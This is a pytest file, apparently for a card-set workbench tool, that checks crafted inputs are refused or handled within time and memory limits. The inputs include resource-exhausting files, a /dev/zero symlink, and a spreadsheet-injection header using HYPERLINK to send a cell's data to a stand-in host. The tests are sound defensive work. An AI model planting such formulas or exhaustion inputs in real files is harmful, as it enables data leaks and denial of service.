"""Issue 14, files and card data: every crafted input is refused or read within a stated bound of time and memory.

Each large file is built in `tmp_path` (hostile_inputs.py) and run through the real command (`python -m workbench`)
or the app's own open-and-save functions in a fresh process, under an address-space cap and a timeout; the figures
asserted are that process's peak resident memory (getrusage RUSAGE_CHILDREN in a small runner) and wall time. The
before/after figures of each case are in the commit log and `measure_limits.py` reproduces them.

Run with `-s` to see each case's figures.
"""

from __future__ import annotations

import io
import json
import os
import re
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hardening import hostile_inputs as h

from workbench.app.workspace import DeckSource, add_deck, open_cardset, workspace_xlsx_bytes
from workbench.cards import WorkbenchInputError
from workbench.limits import LIMITS, limits_markdown
from workbench.loading import load_cardset
from workbench.spreadsheets import write_text_atomically
from workbench.xlsx_rows import MAX_SHARED_STRINGS, Workbook

REPO = h.REPO
GIB = 1024
"""MiB in a GiB: the issue's bound for the server is 1 GiB."""


def show(label: str, run: h.Run) -> None:
    said = (run.stderr.strip().splitlines() or run.stdout.strip().splitlines() or [""])[-1]
    print(f"\nLIMITS {label}: exit {run.code} in {run.seconds:.2f} s, peak {run.peak_mib:.0f} MiB: {said[:200]}")


def refused(run: h.Run, *words: str) -> str:
    """The one-paragraph message of an exit-2 refusal, checked for `words`."""
    assert run.code == 2, (run.code, run.stderr[-2000:])
    message = run.stderr.strip()
    assert "Traceback" not in message and len(message.splitlines()) == 1, message
    for word in words:
        assert word in message, message
    return message


# The table ---------------------------------------------------------------------------------------------------


def test_docs_formats_carries_the_limits_table_of_the_module() -> None:
    page = (REPO / "docs/formats.md").read_text(encoding="utf-8")
    found = re.search(
        r"<!-- limits table: generated from workbench/limits.py -->\n(.*?)<!-- end of limits table -->", page, re.S
    )
    assert found is not None, "docs/formats.md lost its limits table markers"
    assert found.group(1) == limits_markdown(), (
        "docs/formats.md differs from workbench/limits.py: python -m workbench.limits"
    )


def test_the_readers_use_the_values_of_the_table() -> None:
    from workbench import decklists, spreadsheets

    assert LIMITS["shared_strings"].value == MAX_SHARED_STRINGS
    assert LIMITS["file_bytes"].value == spreadsheets.MAX_FILE_BYTES and LIMITS["rows"].value == spreadsheets.MAX_ROWS
    assert LIMITS["cells"].value == spreadsheets.MAX_CELLS and LIMITS["sheets"].value == spreadsheets.MAX_SHEETS
    assert LIMITS["copies_per_card"].value == decklists.MAX_COPIES_PER_LINE
    assert LIMITS["decklist_lines"].value == decklists.MAX_DECKLIST_LINES


# Reading proportional to the cells used -------------------------------------------------------------------------


def test_a_1024_column_csv_of_199999_one_cell_rows_validates_in_little_memory(tmp_path: Path) -> None:
    """1.5 MB: 7.2 GB in the app and 1.8 GB in `validate` before rows stopped being padded to the header."""
    path = h.wide_header_csv(tmp_path / "wide.csv")
    run = h.workbench("validate", str(path), "--ruleset", "souls", timeout=180)
    show("wide csv validate", run)
    assert run.code == 1, run.stderr[-2000:]  # every row lacks its kind: findings, not a failure
    assert "0 of 199999 card rows read" in run.stdout + run.stderr
    assert run.peak_mib < 512, run


def test_the_app_refuses_the_wide_csv_before_building_its_grid(tmp_path: Path) -> None:
    path = h.wide_header_csv(tmp_path / "wide.csv")
    run = h.python_snippet(h.OPEN_AND_SAVE, str(path), "souls", timeout=120)
    show("wide csv app open", run)
    assert "WorkbenchInputError" in run.stderr and "opened" not in run.stdout
    assert "204,798,976 cells, more than the limit of 5,000,000 cells" in run.stderr
    assert run.peak_mib < 512 and run.seconds < 60, run


def test_empty_cells_at_column_xfd_cost_nothing(tmp_path: Path) -> None:
    """20,000 rows each with one empty text cell at XFD (105 KB): 83-135 s before."""
    path = h.empty_cells_at_xfd(tmp_path / "xfd.xlsx")
    run = h.workbench("validate", str(path), "--ruleset", "souls", timeout=120)
    show("empty cells at XFD", run)
    assert run.code == 0 and "2 of 2 card rows read" in run.stdout + run.stderr, run
    assert run.seconds < 30 and run.peak_mib < 256, run


def test_unused_shared_strings_are_never_parsed(tmp_path: Path) -> None:
    """2 million strings no card cell uses: parsing them all took 42 s for 5 million before."""
    path = h.unused_shared_strings(tmp_path / "strings.xlsx", 2_000_000)
    run = h.workbench("validate", str(path), "--ruleset", "souls", timeout=120)
    show("unused shared strings", run)
    assert run.code == 0 and "2 of 2 card rows read" in run.stdout + run.stderr, run
    assert run.seconds < 20 and run.peak_mib < 256, run


def test_a_cell_pointing_past_the_shared_string_limit_is_refused_naming_it(tmp_path: Path) -> None:
    sheet = h.worksheet(
        h.inline_rows([h.SOULS_HEADERS]) + f'<row r="2"><c r="A2" t="s"><v>{MAX_SHARED_STRINGS}</v></c></row>'
    )
    path = tmp_path / "far.xlsx"
    path.write_bytes(
        h.xlsx_package({"Cards": sheet}, shared_strings=f'<sst xmlns="{h.MAIN_NS}"><si><t>a</t></si></sst>'.encode())
    )
    with pytest.raises(WorkbenchInputError) as caught:
        load_cardset(path, "souls")
    assert caught.value.row == 2 and caught.value.column == "A" and "1,000,000 shared strings" in str(caught.value)


def test_more_non_empty_cells_than_the_limit_are_refused_at_the_row_that_passes_it(tmp_path: Path) -> None:
    headers = h.SOULS_HEADERS + [f"x{i}" for i in range(1_024 - len(h.SOULS_HEADERS))]
    row = ",".join(["v"] * 1_024)
    path = tmp_path / "cells.csv"
    path.write_text(",".join(headers) + "\n" + (row + "\n") * 2_000, encoding="utf-8")
    run = h.workbench("validate", str(path), "--ruleset", "souls", timeout=120)
    show("cells limit", run)
    refused(run, "more than 2,000,000 non-empty cells", "row 1954", "split the set")
    assert run.peak_mib < 512


def test_more_sheets_than_the_limit_are_refused(tmp_path: Path) -> None:
    sheets = {"Cards": h.card_sheet(), **{f"S{i}": h.worksheet("") for i in range(LIMITS["sheets"].value)}}
    path = tmp_path / "sheets.xlsx"
    path.write_bytes(h.xlsx_package(sheets))
    refused(h.workbench("validate", str(path), "--ruleset", "souls"), "101 sheets", "limit of 100 sheets")


def test_a_cell_longer_than_a_spreadsheet_cell_is_refused_naming_row_and_column(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_text("name,kind,soul_cost,atk,def,text\nImp,monster,0,1,1," + "x" * 40_000 + "\n", encoding="utf-8")
    refused(h.workbench("validate", str(path)), "row 2", "column 'F'", "40,000 characters", "32,767 characters")


def test_a_nul_byte_past_the_first_4_kb_is_refused_naming_its_line(tmp_path: Path) -> None:
    rows = "".join(f"Imp {i},monster,0,1,1\n" for i in range(400))
    path = tmp_path / "nul.csv"
    path.write_bytes(("name,kind,soul_cost,atk,def\n" + rows).encode() + b"Bad\x00Imp,monster,0,1,1\n")
    refused(h.workbench("validate", str(path)), "binary data (a NUL byte)", "row 402")


# Only regular files -----------------------------------------------------------------------------------------------


@pytest.fixture
def not_files(tmp_path: Path) -> dict[str, Path]:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.csv"
    zero.symlink_to("/dev/zero")
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    return {"named pipe (FIFO)": fifo, "character device": zero, "folder": folder}


def test_devices_fifos_and_folders_are_refused_by_type_in_every_command(
    not_files: dict[str, Path], tmp_path: Path
) -> None:
    """A symlink to /dev/zero grew to 23 GB, a FIFO hung: in validate, diff and report --baseline alike."""
    souls = str(REPO / "cardsets/souls/ashfall.csv")
    for kind, path in not_files.items():
        for argv in (
            ["validate", str(path)],
            ["diff", souls, str(path)],
            ["report", souls, "--baseline", str(path), "--out", str(tmp_path / "r.html")],
            ["validate", souls, "--deck", str(path)],
        ):
            run = h.workbench(*argv, timeout=60, cap_bytes=2 * 2**30)
            show(f"{kind}: {argv[0]}", run)
            refused(run, f"file {path}", "folder, not a file" if kind == "folder" else f"{kind}, not a regular file")
            assert run.seconds < 30 and run.peak_mib < 512, run


# Save as xlsx -----------------------------------------------------------------------------------------------------


def test_saving_copies_a_500000_row_sheet_the_editor_does_not_change_without_loading_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """364 s and 4.6 GB before, when openpyxl loaded the whole upload to save it."""
    path = h.extra_big_sheet(tmp_path / "big.xlsx")
    run = h.python_snippet(h.OPEN_AND_SAVE, str(path), "souls", "save", timeout=180)
    show("save with a 500,000-row sheet", run)
    assert run.code == 0 and "saved" in run.stdout, run.stderr[-2000:]
    assert run.seconds < 60 and run.peak_mib < GIB, run
    saved = Workbook(zipfile.ZipFile(tmp_path / "big.xlsx.saved.xlsx"))
    assert saved.sheet_names == ["Cards", "Log", "Set"]
    # The copied log is read back whole here, past the rows limit a card sheet is read under.
    monkeypatch.setattr("workbench.xlsx_rows.MAX_ROW_ELEMENTS", 1_000_000)
    log = list(saved.rows("Log"))
    assert len(log) == 500_000 and log[-1] == ([500_000, 1_000_000], {})


def test_content_types_naming_a_missing_part_still_save(tmp_path: Path) -> None:
    """The shared-string table the content types name is not in the package: a KeyError before."""
    path = h.missing_part(tmp_path / "missing.xlsx")
    workspace = open_cardset(path.read_bytes(), path.name, "souls")
    reopened = open_cardset(workspace_xlsx_bytes(workspace), "saved.xlsx", "souls")
    assert list(reopened.sheet.frame["name"]) == ["Ember Imp", "Tide Golem"]


def test_a_package_that_cannot_be_saved_is_a_message() -> None:
    from workbench.xlsx_package import save_package

    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    with pytest.raises(WorkbenchInputError) as caught:
        save_package(broken.getvalue(), "broken.xlsx", {"Cards"}, lambda workbook: None)
    assert "file broken.xlsx" in str(caught.value) and "could not be saved" in str(caught.value)


def _formula_cells(data: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{c.coordinate}" for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]


def test_a_csv_header_and_a_file_name_that_look_like_formulas_are_saved_as_text() -> None:
    header = '=HYPERLINK("http://example.invalid/?d="&A2,"notes")'
    csv_text = f'name,kind,soul_cost,atk,def,"{header.replace(chr(34), chr(34) * 2)}"\nImp,monster,0,1,1,x\n'
    workspace = open_cardset(csv_text.encode(), "=1+1.csv", "souls")
    add_deck(workspace, DeckSource("=2+2", "pasted", text="1 Imp\n"))
    data = workspace_xlsx_bytes(workspace)
    assert _formula_cells(data) == []
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook["Cards"]["F1"].value == header
    assert dict(workbook["Set"].iter_rows(values_only=True))["name"] == "=1+1"
    assert workbook["Decks"]["A2"].value == "=2+2"


def test_a_workbook_upload_keeps_its_copied_sheets_strings_styles_and_comments() -> None:
    from openpyxl.comments import Comment
    from openpyxl.styles import Font

    from workbench.editing import apply_editor_changes

    book = openpyxl.Workbook()
    cards = book.active
    cards.title = "Cards"
    cards.append(h.SOULS_HEADERS)
    cards.append(["Ember Imp", "monster", 0, 2, 3, "Atk"])
    notes = book.create_sheet("Notes")
    notes["A1"] = "=SUM(1,2)"
    notes["B2"] = "keep"
    notes["B2"].font = Font(bold=True, color="FF0000")
    notes["B2"].comment = Comment("a note", "designer")
    buffer = io.BytesIO()
    book.save(buffer)
    workspace = open_cardset(buffer.getvalue(), "set.xlsx", "souls")
    workspace.sheet = apply_editor_changes(workspace.sheet, {"edited_rows": {0: {"name": '=HYPERLINK("x")'}}})
    saved = openpyxl.load_workbook(io.BytesIO(workspace_xlsx_bytes(workspace)))
    assert saved.sheetnames == ["Cards", "Notes", "Set"]
    assert saved["Notes"]["A1"].value == "=SUM(1,2)" and saved["Notes"]["A1"].data_type == "f"  # its own formula, kept
    assert saved["Notes"]["B2"].font.b and saved["Notes"]["B2"].comment.text == "a note"
    assert saved["Cards"]["A2"].value == '=HYPERLINK("x")' and saved["Cards"]["A2"].data_type == "s"


def test_a_shared_string_workbook_saves_with_its_copied_sheets_text_intact() -> None:
    strings = [*h.SOULS_HEADERS, "Ember Imp", "monster", "Atk", "note one"]
    table = (
        f'<sst xmlns="{h.MAIN_NS}" count="10" uniqueCount="10">'
        + "".join(f"<si><t>{s}</t></si>" for s in strings)
        + "</sst>"
    )

    def shared_row(number: int, indexes: list[int]) -> str:
        return (
            f'<row r="{number}">'
            + "".join(f'<c r="{chr(65 + i)}{number}" t="s"><v>{v}</v></c>' for i, v in enumerate(indexes))
            + "</row>"
        )

    cards = h.worksheet(
        shared_row(1, [0, 1, 2, 3, 4, 5])
        + '<row r="2"><c r="A2" t="s"><v>6</v></c><c r="B2" t="s"><v>7</v></c><c r="C2"><v>0</v></c>'
        '<c r="D2"><v>2</v></c><c r="E2"><v>3</v></c><c r="F2" t="s"><v>8</v></c></row>'
    )
    data = h.xlsx_package({"Cards": cards, "Notes": h.worksheet(shared_row(1, [9]))}, shared_strings=table.encode())
    workspace = open_cardset(data, "set.xlsx", "souls")
    from workbench.editing import apply_editor_changes

    workspace.sheet = apply_editor_changes(workspace.sheet, {"edited_rows": {0: {"atk": "7", "abilities": "new text"}}})
    saved = openpyxl.load_workbook(io.BytesIO(workspace_xlsx_bytes(workspace)))
    assert [c.value for c in saved["Notes"][1]] == ["note one"]
    assert [c.value for c in saved["Cards"][2]] == ["Ember Imp", "monster", 0, 7, 3, "new text"]


# Card data ------------------------------------------------------------------------------------------------------------


def test_a_long_decklist_is_refused_at_the_line_past_the_limit(tmp_path: Path) -> None:
    """200,000 lines of `999 Name`: simulate took 14 GB, then exit 3."""
    deck = h.long_decklist(tmp_path / "long.txt")
    run = h.workbench("validate", str(REPO / "cardsets/circles/circle_starter.csv"), "--deck", str(deck))
    show("200,000-line decklist", run)
    refused(run, f"file {deck}", "more than 10,000 cards", "row 11")
    assert run.seconds < 30 and run.peak_mib < 512


def test_a_decklist_of_more_lines_than_the_limit_is_refused(tmp_path: Path) -> None:
    deck = h.long_decklist(tmp_path / "lines.txt", 10_001, "1")
    refused(
        h.workbench("validate", str(REPO / "cardsets/circles/circle_starter.csv"), "--deck", str(deck)),
        "more than 10,000 lines",
        "row 10001",
    )


@pytest.mark.parametrize("count", ["9" * 5000, "²"], ids=["5000 digits", "superscript two"])
def test_a_count_that_is_no_number_is_a_finding_in_text_and_sheet_decklists(tmp_path: Path, count: str) -> None:
    """A 5,000-digit count was exit 3 (Python refuses to read past 4,300 digits); `²` passes str.isdigit but not int."""
    starter = str(REPO / "cardsets/circles/circle_starter.csv")
    text = tmp_path / "deck.txt"
    text.write_text(f"2 Cinder Scout\n{count} Ember Pup\n", encoding="utf-8")
    sheet = tmp_path / "deck.csv"
    sheet.write_text(f"name,count\nCinder Scout,2\nEmber Pup,{count}\n", encoding="utf-8")
    for deck, row in ((text, 2), (sheet, 3)):
        run = h.workbench("validate", starter, "--deck", str(deck), "--format", "json")
        show(f"count {count[:6]} in {deck.name}", run)
        assert run.code == 1, run.stderr[-2000:]
        findings = [f for f in json.loads(run.stdout)["findings"] if f.get("deck")]
        assert [
            (f["row"], f["severity"]) for f in findings if f["rule"] in ("circles.deck_line", "circles.unknown_card")
        ] == [(row, "error")], findings


def test_a_count_that_is_no_number_in_a_workbooks_decks_sheet_is_a_finding(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    cards = book.active
    cards.title = "Cards"
    for row in (
        ["name", "kind", "color", "red", "blue", "green", "attack", "health"],
        ["Pup", "character", "", 1, 0, 0, 2, 1],
    ):
        cards.append(row)
    decks = book.create_sheet("Decks")
    decks.append(["deck", "count", "name"])
    decks.append(["one", "²", "Pup"])
    decks.append(["one", "9" * 5000, "Pup"])
    path = tmp_path / "set.xlsx"
    book.save(path)
    run = h.workbench("validate", str(path), "--format", "json")
    assert run.code == 1, run.stderr[-2000:]
    assert run.stdout.count("deck_line") >= 2


@pytest.mark.parametrize(
    ("ruleset_csv", "column", "value", "rule", "expected"),
    [
        ("blades", "copies", "1000000", "number_limit", "1,000,000 is past the limit of 999"),
        ("blades", "copies", "9" * 5000, "number_limit", "5,000 digits"),
        ("circles", "attack", str(10**20), "number_limit", "21 digits"),
        ("circles", "attack", "2000000", "number_limit", "2,000,000 is past the limit of 1,000,000"),
        ("circles", "health", "1e308", "cell_value", "is not a whole number"),
    ],
    ids=["copies a million", "copies 5000 digits", "attack 10**20", "attack two million", "health 1e308"],
)
def test_a_card_number_past_its_limit_is_an_error_on_its_cell(
    tmp_path: Path, ruleset_csv: str, column: str, value: str, rule: str, expected: str
) -> None:
    """`attack = 10**20` overflowed in the engine (exit 3); a 5,000-digit copy count was never a clear message."""
    if ruleset_csv == "blades":
        path = h.blades_copies(tmp_path / "b.csv", value)
    else:
        path = h.circles_with(tmp_path / "c.csv", column, value)
    run = h.workbench("validate", str(path), "--format", "json")
    show(f"{column}={value[:8]}", run)
    assert run.code == 1, run.stderr[-2000:]
    findings = [f for f in json.loads(run.stdout)["findings"] if f["rule"] == f"{ruleset_csv}.{rule}"]
    assert [(f["row"], f["column"], f["severity"]) for f in findings] == [(2, column, "error")], findings
    assert expected in findings[0]["message"] and run.peak_mib < 512


def test_a_number_past_the_limit_in_an_xlsx_cell_is_an_error_on_its_cell(tmp_path: Path) -> None:
    headers = ["name", "kind", "color", "red", "blue", "green", "attack", "health"]
    row = '<row r="2"><c r="A2" t="inlineStr"><is><t>Pup</t></is></c>'
    row += '<c r="B2" t="inlineStr"><is><t>character</t></is></c>'
    row += '<c r="D2"><v>1</v></c><c r="E2"><v>0</v></c><c r="F2"><v>0</v></c><c r="G2"><v>1e20</v></c>'
    row += f'<c r="H2"><v>{"9" * 5000}</v></c></row>'
    path = tmp_path / "big.xlsx"
    path.write_bytes(h.xlsx_package({"Cards": h.worksheet(h.inline_rows([headers]) + row)}))
    findings = [f for f in load_cardset(path, "circles").load_findings if f.rule == "circles.number_limit"]
    assert sorted((f.row, f.column) for f in findings) == [(2, "attack"), (2, "health")]


def test_print_of_a_set_with_a_million_copies_is_small(tmp_path: Path) -> None:
    """13 GB and a 2.3 GB HTML file before; the card is now unreadable (an error on its cell) and not printed."""
    path = h.blades_copies(tmp_path / "blades.csv")
    out = tmp_path / "print.html"
    run = h.workbench("print", str(path), "--out", str(out), cap_bytes=3 * 2**30, timeout=120)
    show("print with copies 1,000,000", run)
    assert run.code != 3, run.stderr[-2000:]
    assert run.peak_mib < 512 and (not out.exists() or out.stat().st_size < 5 * 2**20)


def test_lookalike_invisible_and_decomposed_names_are_warnings_and_match_in_nfc(tmp_path: Path) -> None:
    path = tmp_path / "names.csv"
    path.write_text(
        "name,kind,color,red,blue,green,attack,health\n"
        "\u0395mber Pup,character,,1,0,0,2,1\n"
        "Cinder\u200bScout,character,,1,0,0,2,1\n"
        "Cafe\u0301 Golem,character,,1,0,0,2,1\n"
        "Plain Pup,character,,1,0,0,2,1\n",
        encoding="utf-8",
    )
    cardset = load_cardset(path, "circles")
    warnings = {(f.row, f.column): f.message for f in cardset.load_findings if f.rule == "circles.name_characters"}
    assert set(warnings) == {(2, "name"), (3, "name"), (4, "name")}
    assert "GREEK CAPITAL LETTER EPSILON" in warnings[(2, "name")]
    assert "ZERO WIDTH SPACE" in warnings[(3, "name")] and "NFC" in warnings[(4, "name")]
    assert all(f.severity == "warning" for f in cardset.load_findings if f.rule == "circles.name_characters")
    assert cardset.find("Café Golem") is not None and cardset.find("CinderScout") is not None
    assert cardset.find("Ember Pup") is None  # a lookalike is reported, not silently merged


# Outputs ----------------------------------------------------------------------------------------------------------


def test_print_and_report_refuse_an_out_that_is_their_input(tmp_path: Path) -> None:
    cards = tmp_path / "cards.csv"
    cards.write_bytes((REPO / "cardsets/circles/circle_starter.csv").read_bytes())
    before = cards.read_bytes()
    refused(h.workbench("print", str(cards), "--out", str(cards)), "--out names", "replace its own input")
    baseline = tmp_path / "old.xlsx"
    baseline.write_bytes(b"an earlier version")
    refused(
        h.workbench("report", str(cards), "--baseline", str(baseline), "--out", str(tmp_path / "." / "old.xlsx")),
        "--out names",
        "replace its own input",
    )
    assert cards.read_bytes() == before and baseline.read_bytes() == b"an earlier version"


def test_a_killed_writes_temp_file_is_removed_by_the_next_write(tmp_path: Path) -> None:
    target = tmp_path / "out.html"
    killer = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "from workbench.spreadsheets import write_atomically\n"
        "def write(temp):\n"
        "    Path(temp).write_text('half')\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        "write_atomically(sys.argv[1], write)\n"
    )
    done = subprocess.run([sys.executable, "-c", killer, str(target)], env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == -signal.SIGKILL
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    assert len(leftovers) == 1 and not target.exists()
    write_text_atomically("whole", target)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.html"] and target.read_text() == "whole"
